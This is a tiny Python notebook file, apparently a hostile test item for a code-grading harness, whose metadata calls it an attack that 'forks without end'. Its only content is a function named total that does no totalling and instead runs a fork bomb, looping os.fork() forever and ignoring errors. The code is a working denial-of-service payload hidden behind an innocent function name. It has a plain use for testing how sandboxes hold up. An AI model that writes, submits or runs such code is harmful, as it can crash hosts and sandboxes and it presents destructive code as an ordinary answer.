# ---
# jupyter:
#   attack:
#     tries: Forks without end, in an answer.
#     dangerous: true
# ---

# %% answer="total"
def total(x):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
